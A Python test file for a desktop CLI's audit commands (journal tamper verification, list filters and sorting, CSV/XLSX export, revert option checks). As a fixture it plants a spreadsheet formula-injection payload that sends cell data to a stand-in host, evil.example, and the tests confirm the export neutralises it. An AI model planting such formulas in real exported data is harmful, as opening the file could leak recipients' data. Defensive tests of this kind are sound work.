"""`tagdesk audit verify | list | export` end to end on a profile's cache (no network needed)."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop.cli import main
from desktop.domain.rule_reverts import rule_reason
from desktop.services.audit import EXPORT_COLUMNS, iso_local, local_datetime
from desktop.services.profiles import Profile, ProfileStore
from desktop.services.xlsx_safe import csv_value
from desktop.store import journal, outbox
from desktop.store.db import Cache
from desktop.store.journal_query import JournalFilter, iter_rows
from desktop.store.snapshot import LAST_SYNC_KEY

T0 = datetime(2025, 3, 1, 9, 0).timestamp()
EVIL = '=HYPERLINK("http://evil.example/?q="&A1, "点我")'
JSON_FIELDS = ["id", "ts", "operator", "action", "source", "batch_id", "external_userid",
               "customer", "userid", "tag_id", "tag_name", "group_name", "before", "after",
               "reason", "probable_operator", "seen_after"]


def _fill(conn: sqlite3.Connection) -> None:
    conn.executemany("INSERT INTO department (id, name, parent_id) VALUES (?, ?, ?)",
                     [(1, "总部", 0), (2, "销售部", 1)])
    conn.executemany("INSERT INTO member (userid, name) VALUES (?, ?)",
                     [("zhangsan", "张三"), ("lisi", "李四")])
    conn.executemany("INSERT INTO member_department (userid, department_id) VALUES (?, ?)",
                     [("zhangsan", 2), ("lisi", 1)])
    conn.executemany("INSERT INTO customer (external_userid, name) VALUES (?, ?)",
                     [("wmA", "王小明"), ("wmB", EVIL), ("wmC", "+86 138")])
    for table in ("member", "customer"):  # what a sync stores: the names' pinyin sort keys
        conn.execute(f"UPDATE {table} SET name_sort = tagdesk_sort_key(name)")
    conn.execute("INSERT INTO tag_group (id, name) VALUES ('g1', '意向程度')")
    conn.executemany("INSERT INTO tag (id, group_id, name) VALUES (?, 'g1', ?)",
                     [("etA", "高意向"), ("etB", "低意向")])
    entries = []
    for i, (customer, owner) in enumerate([("wmA", "zhangsan"), ("wmB", "zhangsan"),
                                           ("wmC", "lisi"), ("wmA", "lisi")]):
        entries.append(journal.JournalEntry(
            operator="zhangsan", action="tag_add", source="batch", batch_id="b-spring",
            external_userid=customer, userid=owner, tag_id="etA", tag_name="高意向",
            group_name="意向程度", before="[]", after='["etA"]', ts=T0 + i * 60,
            reason="春季活动 @all",
        ))
    entries.append(journal.JournalEntry(
        operator="", action="tag_remove", source="observed", external_userid="wmC",
        userid="lisi", tag_id="etA", tag_name="高意向", group_name="意向程度",
        before='["etA"]', after="[]", ts=T0 + 86400, probable_operator="lisi",
        seen_after=T0 + 3600,
    ))
    entries.append(journal.JournalEntry(
        operator="lisi", action="tag_rename", source="tree", batch_id="b-tree", tag_id="etB",
        tag_name="低意向", group_name="意向程度", before='{"name": "冷淡"}',
        after='{"name": "低意向"}', ts=T0 + 2 * 86400,
    ))
    journal.append(conn, entries)


@pytest.fixture(scope="module")
def filled_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home whose profile `acme` holds the journal, written once for the module."""
    home = tmp_path_factory.mktemp("audit") / "home"
    home.mkdir()
    store = ProfileStore(home)
    store.add(Profile(name="acme", corp_id="ww-acme", api_base="http://127.0.0.1:9/",
                      userid="zhangsan"))
    with Cache(store.cache_path("acme")) as cache, cache.write() as conn:
        _fill(conn)
        cache.set_meta(conn, LAST_SYNC_KEY, str(T0))
    return home


@pytest.fixture
def home(tmp_path: Path, filled_home: Path) -> Path:
    """A copy of `filled_home` for one test."""
    return Path(shutil.copytree(filled_home, tmp_path / "home"))


def run(home: Path, capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main([*argv, "--home", str(home)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def tamper(home: Path, *statements: str) -> None:
    conn = sqlite3.connect(ProfileStore(home).cache_path("acme"))
    conn.execute("DROP TRIGGER journal_no_update")
    conn.execute("DROP TRIGGER journal_no_delete")
    for statement in statements:
        conn.execute(statement)
    conn.commit()
    conn.close()


# -- verify ------------------------------------------------------------------------------------


def test_verify_passes_on_a_clean_journal(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme")
    assert code == 0 and "6 rows checked" in out
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
    assert code == 0
    assert json.loads(out) == {"ok": True, "rows_checked": 6, "first_bad_id": None, "problem": "",
                               "problems": [], "rows_walked": 0, "full": False}
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json", "--full")
    assert code == 0 and json.loads(out)["rows_walked"] == 6 and json.loads(out)["full"]


def test_verify_walks_only_the_rows_after_its_checkpoint(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
    assert code == 0 and json.loads(out)["rows_walked"] == 6
    tamper(home, "UPDATE journal SET operator = 'lisi' WHERE id = 3",  # before the checkpoint
           *(f"CREATE TRIGGER {name} BEFORE {verb} ON journal"
             " BEGIN SELECT RAISE(ABORT, 'the journal is append-only'); END"
             for name, verb in (("journal_no_update", "UPDATE"),
                                ("journal_no_delete", "DELETE"))))
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme")
    assert code == 0 and "0 rows hashed after the last verify's checkpoint (row 6)" in out
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--full")
    assert code == 1 and "row 3" in out and "edited" in out


@pytest.mark.parametrize(("statements", "bad_row", "word"), [
    (["UPDATE journal SET operator = 'lisi' WHERE id = 3"], 3, "edited"),
    (["UPDATE journal SET reason = '' WHERE id = 1"], 1, "edited"),
    (["DELETE FROM journal WHERE id = 4"], 4, "missing"),
    (["DELETE FROM journal WHERE id = 6"], 6, "cut off"),
    (["UPDATE journal SET id = -1 WHERE id = 2", "UPDATE journal SET id = 2 WHERE id = 5",
      "UPDATE journal SET id = 5 WHERE id = -1"], 2, "reordered"),
], ids=["edited row", "edited first row", "deleted row", "deleted last row", "two swapped rows"])
def test_verify_names_the_first_bad_row(
    home: Path, capsys: pytest.CaptureFixture[str], statements: list[str], bad_row: int,
    word: str,
) -> None:
    tamper(home, *statements)
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme")
    assert code == 1
    assert f"row {bad_row}" in out and word in out
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
    report = json.loads(out)
    assert code == 1 and report["ok"] is False and report["first_bad_id"] == bad_row


def test_verify_of_an_unknown_profile_is_an_error(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(home, capsys, "audit", "verify", "--profile", "nope")
    assert code == 2 and "nope" in err


# -- list --------------------------------------------------------------------------------------


def test_list_json_prints_every_row_then_a_summary(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json")
    lines = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and len(lines) == 7
    rows, summary = lines[:-1], lines[-1]
    assert [list(r) for r in rows] == [JSON_FIELDS] * 6
    assert [r["id"] for r in rows] == [1, 2, 3, 4, 5, 6]
    first = rows[0]
    assert first["ts"] == iso_local(T0) and datetime.fromisoformat(first["ts"]).timestamp() == T0
    assert first["customer"] == "王小明" and first["operator"] == "zhangsan"
    assert first["before"] == [] and first["after"] == ["etA"]
    assert rows[5]["before"] == {"name": "冷淡"}
    assert summary == {"summary": True, "rows": 6, "batches": 2,
                       "by_action": {"tag_add": 4, "tag_remove": 1, "tag_rename": 1},
                       "by_source": {"batch": 4, "observed": 1, "tree": 1}}


@pytest.mark.parametrize(("options", "ids"), [
    (["--batch", "b-spring"], [1, 2, 3, 4]),
    (["--operator", "lisi"], [6]),
    (["--operator", "lisi", "--include-observed"], [5, 6]),
    (["--operator", "zhangsan", "--include-observed"], [1, 2, 3, 4]),
    (["--since", "2025-03-02"], [5, 6]),
    (["--until", "2025-03-01"], [1, 2, 3, 4]),
    (["--since", "2025-03-01 09:01", "--until", "2025-03-01 09:03"], [2, 3]),
    (["--department", "销售部"], [1, 2]),
    (["--department", "1"], [1, 2, 3, 4, 5]),
    (["--action", "tag_add", "--action", "tag_rename"], [1, 2, 3, 4, 6]),
    (["--source", "observed"], [5]),
    (["--tag", "低意向"], [6]),
    (["--tag", "etA", "--customer", "小明"], [1, 4]),
    (["--group", "意向程度", "--operator", "zhangsan", "--batch", "b-spring"], [1, 2, 3, 4]),
])
def test_list_filters(
    home: Path, capsys: pytest.CaptureFixture[str], options: list[str], ids: list[int]
) -> None:
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json", *options)
    assert code == 0
    assert [json.loads(line)["id"] for line in out.splitlines()[:-1]] == ids


@pytest.mark.parametrize(("options", "ids"), [
    (["--order", "desc"], [6, 5, 4, 3, 2, 1]),
    (["--sort", "time", "--order", "asc"], [1, 2, 3, 4, 5, 6]),
    (["--sort", "operator"], [5, 6, 4, 3, 2, 1]),
    (["--sort", "operator", "--order", "desc"], [4, 3, 2, 1, 6, 5]),
    (["--sort", "tag", "--batch", "b-spring", "--batch", "b-tree"], [6, 4, 3, 2, 1]),
    (["--sort", "source", "--order", "desc"], [6, 5, 4, 3, 2, 1]),
])
def test_list_sorts_by_a_column_either_way(
    home: Path, capsys: pytest.CaptureFixture[str], options: list[str], ids: list[int]
) -> None:
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json", *options)
    *rows, summary = [json.loads(line) for line in out.splitlines()]
    assert code == 0 and [r["id"] for r in rows] == ids
    assert [list(r) for r in rows] == [JSON_FIELDS] * len(ids)
    assert summary["rows"] == len(ids)


def test_list_refuses_an_unknown_sort_column(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(home, capsys, "audit", "list", "--profile", "acme", "--sort", "colour")
    assert code == 2 and "colour" in err and out == ""


def test_a_change_seen_at_sync_names_no_operator_but_its_window_and_probable_one(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json",
                       "--source", "observed")
    seen = json.loads(out.splitlines()[0])
    assert code == 0
    assert (seen["operator"], seen["probable_operator"], seen["seen_after"], seen["ts"]) == (
        "", "lisi", iso_local(T0 + 3600), iso_local(T0 + 86400))
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--source", "observed")
    fields = out.splitlines()[0].split("\t")
    assert fields[:2] == [f"{iso_local(T0 + 3600)} – {iso_local(T0 + 86400)}",
                          "企业微信客户端 / unknown, seen at sync（可能是 / probably 李四 (lisi)）"]


def test_verify_notices_tail_rows_cut_off_with_the_head(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tamper(home, "DELETE FROM journal WHERE id >= 5", "DELETE FROM meta WHERE key = 'journal_head'")
    code, out, _ = run(home, capsys, "audit", "verify", "--profile", "acme", "--json")
    report = json.loads(out)
    assert code == 1 and report["ok"] is False and report["first_bad_id"] == 5
    assert len(report["problems"]) == 3   # no head in meta, head file ahead, no triggers


def test_list_since_a_span(home: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--since", "24h")
    assert code == 0 and out.splitlines() == ["— 共 0 行，0 个批次 / 0 rows, 0 batches"]


def test_list_text_is_one_readable_line_per_row(
    home: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--batch", "b-spring")
    lines = out.splitlines()
    assert code == 0 and len(lines) == 5
    assert lines[0].split("\t") == [iso_local(T0), "张三", "添加标签 tag added", "批量 batch",
                                    "王小明", "张三", "意向程度:高意向", "b-spring",
                                    "春季活动 @all"]


@pytest.mark.parametrize(("options", "message"), [
    (["--since", "yesterday"], "Not a time"),
    (["--department", "火星"], "No department"),
    (["--tag", "不存在"], "No tag named"),
])
def test_list_refuses_bad_options(
    home: Path, capsys: pytest.CaptureFixture[str], options: list[str], message: str
) -> None:
    code, out, err = run(home, capsys, "audit", "list", "--profile", "acme", *options)
    assert code == 2 and message in err and out == ""


# -- export ------------------------------------------------------------------------------------


def _expected(home: Path) -> list[list[object]]:
    with Cache(ProfileStore(home).cache_path("acme")) as cache:
        rows = list(iter_rows(cache, JournalFilter(batch_ids=("b-spring", "b-tree"))))
    return [[r.id, local_datetime(r.ts), r.operator, r.operator_name, r.action, r.source,
             r.batch_id, r.external_userid, r.customer, r.userid, r.owner_name, r.tag_id,
             r.tag_name, r.group_name, r.before, r.after, r.reason, "", ""] for r in rows]


def test_xlsx_export_round_trips_and_keeps_formulas_as_text(
    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "out" / "audit.xlsx"
    code, out, _ = run(home, capsys, "audit", "export", "--profile", "acme",
                       "--source", "batch", "--source", "tree", str(target))
    assert code == 0 and "5 rows" in out
    book = load_workbook(target)
    data, notes = book.worksheets
    values = [[cell.value for cell in row] for row in data.iter_rows()]
    assert values[0] == [c.key for c in EXPORT_COLUMNS]
    assert [[("" if v is None else v) for v in row] for row in values[1:]] == _expected(home)
    evil = next(row for row in data.iter_rows(min_row=2) if row[7].value == "wmB")[8]
    assert evil.value == EVIL and evil.data_type == "s" and evil.quotePrefix
    described = {row[0]: (row[1], row[2]) for row in notes.iter_rows(min_row=2, values_only=True)}
    assert list(described) == [c.key for c in EXPORT_COLUMNS]
    assert all(zh and en and zh != en for zh, en in described.values())
    assert [p.name for p in target.parent.iterdir()] == ["audit.xlsx"]


def test_csv_export_round_trips(
    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    target = tmp_path / "audit.csv"
    code, _, _ = run(home, capsys, "audit", "export", "--profile", "acme", "--batch", "b-spring",
                     "--batch", "b-tree", str(target))
    assert code == 0
    raw = target.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with target.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == [c.key for c in EXPORT_COLUMNS]
    assert "'" + EVIL in [cell for row in rows for cell in row]
    expected = [[v.isoformat(sep=" ") if isinstance(v, datetime) else str(v) for v in row]
                for row in _expected(home)]
    assert [[csv_value(cell) for cell in row] for row in rows[1:]] == expected


@pytest.mark.parametrize("options", [
    ["--sort", "operator"], ["--sort", "operator", "--order", "desc"],
    ["--sort", "tag", "--batch", "b-spring", "--batch", "b-tree"], ["--order", "desc"],
])
def test_export_sorts_its_rows_as_list_does(
    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path, options: list[str]
) -> None:
    target = tmp_path / "sorted.csv"
    code, _, _ = run(home, capsys, "audit", "export", "--profile", "acme", *options, str(target))
    assert code == 0
    with target.open(encoding="utf-8-sig", newline="") as handle:
        exported = [int(row[0]) for row in list(csv.reader(handle))[1:]]
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--json", *options)
    listed = [json.loads(line)["id"] for line in out.splitlines()[:-1]]
    assert code == 0 and exported == listed and exported != sorted(exported)


@pytest.mark.parametrize(("options", "word"), [
    (["--sort", "colour"], "colour"), (["--order", "up"], "up"),
])
def test_export_refuses_an_unknown_sort_and_writes_nothing(
    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path, options: list[str],
    word: str
) -> None:
    target = tmp_path / "sorted.csv"
    code, out, err = run(home, capsys, "audit", "export", "--profile", "acme", *options,
                         str(target))
    assert code == 2 and word in err and out == "" and not target.exists()


def test_export_refuses_other_file_types(
    home: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    code, _, err = run(home, capsys, "audit", "export", "--profile", "acme",
                       str(tmp_path / "audit.pdf"))
    assert code == 2 and ".xlsx" in err and not (tmp_path / "audit.pdf").exists()


# -- revert: what is refused before anything is opened -------------------------------------------


@pytest.mark.parametrize(("options", "message"), [
    (["b-spring"], "--yes"),
    ([], "Give the batch id"),
    (["--operator", "zhangsan"], "--since"),
    (["b-spring", "--operator", "zhangsan", "--since", "1d", "--dry-run"], "not both"),
    (["--operator", "zhangsan", "--since", "soon", "--dry-run"], "Not a time"),
])
def test_revert_refuses_unclear_requests(
    home: Path, capsys: pytest.CaptureFixture[str], options: list[str], message: str
) -> None:
    code, out, err = run(home, capsys, "audit", "revert", "--profile", "acme", *options)
    assert code == 2 and message in err and out == ""


@pytest.mark.parametrize(("settings", "locale", "shown"), [
    ("", "C.UTF-8", "规则：北京归华北"),
    ("", "en_US.UTF-8", "Rules: 北京归华北"),
    ("[prefs]\nlanguage=en\n", "zh_CN.UTF-8", "Rules: 北京归华北"),   # the app's choice wins
    ("[prefs]\nlanguage=zh_CN\n", "en_US.UTF-8", "规则：北京归华北"),
])
def test_batches_show_a_stored_description_in_one_language(
    home: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
    tmp_path: Path, settings: str, locale: str, shown: str,
) -> None:
    with Cache(ProfileStore(home).cache_path("acme")) as cache:
        outbox.create_batch(cache, [], operator="zhangsan", source="rule",
                            description=rule_reason(["北京归华北"]))   # as a rule run writes it
    if settings:
        (home / "tagdesk.ini").write_text(settings, encoding="utf-8")
    for variable in ("LC_ALL", "LC_MESSAGES"):
        monkeypatch.delenv(variable, raising=False)
    monkeypatch.setenv("LANG", locale)
    code, out, _ = run(home, capsys, "batches", "--profile", "acme")
    assert code == 0 and out.splitlines()[0].split("\t")[-1] == shown
    with Cache(ProfileStore(home).cache_path("acme")) as cache, cache.write() as conn:
        journal.append(conn, [journal.JournalEntry(
            operator="zhangsan", action="tag_add", source="rule", batch_id="b-rule",
            external_userid="wmA", userid="zhangsan", tag_id="etB", tag_name="低意向",
            group_name="意向程度", before="[]", after='["etB"]', ts=T0 + 3 * 86400,
            reason=rule_reason(["北京归华北"]))])
    code, out, _ = run(home, capsys, "audit", "list", "--profile", "acme", "--batch", "b-rule")
    assert code == 0 and out.splitlines()[0].split("\t")[-1] == shown   # the reason too
    target = tmp_path / "rule.csv"
    code, _, _ = run(home, capsys, "audit", "export", "--profile", "acme", "--batch", "b-rule",
                     str(target))
    with target.open(encoding="utf-8-sig", newline="") as handle:
        exported = list(csv.DictReader(handle))
    assert code == 0 and [row["reason"] for row in exported] == [shown]   # and the export
